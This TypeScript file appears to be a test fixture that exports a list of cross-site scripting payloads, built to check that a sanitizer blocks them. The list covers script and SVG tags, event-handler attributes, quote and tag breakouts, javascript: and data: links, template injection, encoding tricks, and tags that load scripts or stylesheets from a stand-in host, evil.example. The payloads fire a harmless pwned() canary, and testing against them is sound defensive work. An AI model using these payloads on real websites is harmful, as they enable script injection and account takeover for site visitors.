/** What strangers write who want the pages of others to run it. `pwned` is what the test hears of. */
const TAGS = ['<script>pwned()</script>', '<svg onload=pwned()>', '<img src=x onerror=pwned()>']
const HANDLERS = 'body details video audio input select textarea marquee iframe object embed a'.split(' ')
const BREAKOUTS = ['">', "'>", '</title>', '</script>', '</textarea>', '--></style>', '`>', ']]>', '\\">', '&quot;>']
const LINKS = [
  'javascript:pwned()',
  'JaVaScRiPt:pwned()',
  ' javascript:pwned()',
  'java\tscript:pwned()',
  'java\nscript:pwned()',
  '\u0001javascript:pwned()',
  'javascript://acme.example/%0apwned()',
  'data:text/html,<script>opener.pwned()</script>',
  'data:text/html;base64,PHNjcmlwdD5vcGVuZXIucHduZWQoKTwvc2NyaXB0Pg==',
  'vbscript:pwned()',
  'blob:https://evil.example/x',
  'view-source:javascript:pwned()',
  '//evil.example/x.js',
  'https://evil.example/"onmouseover="pwned()',
  'https://evil.example/<svg/onload=pwned()>',
]
const OTHERS = [
  '{{constructor.constructor("pwned()")()}}',
  '$' + '{pwned()}',
  '<base href=https://evil.example/>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:pwned()">',
  '<form action=javascript:pwned()><button>Go</button></form>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>',
  '<svg><script>pwned()</script></svg>',
  '<iframe srcdoc="<script>parent.pwned()</script>">',
  '<img src=https://evil.example/x.png>',
  '<style>@import url(https://evil.example/x.css)</style>',
  '<a href="javascript:pwned()">Click</a>',
  '\u202e<script>pwned()</script>',
  '＜script＞pwned()＜/script＞',
  '%3Cscript%3Epwned()%3C/script%3E',
  '&lt;script&gt;pwned()&lt;/script&gt;',
  '+ADw-script+AD4-pwned()+ADw-/script+AD4-',
  '__proto__',
  'onerror=pwned()',
  '<script src=https://evil.example/x.js></script>',
  '<template><script>pwned()</script></template>',
]

export const PAYLOADS: string[] = [
  ...TAGS,
  ...HANDLERS.map(
    (tag) => `<${tag} autofocus src=x onfocus=pwned() onload=pwned() onerror=pwned() onmouseover=pwned()>`,
  ),
  ...BREAKOUTS.map((breakout) => `${breakout}<img src=x onerror=pwned()>`),
  ...LINKS,
  ...OTHERS,
]
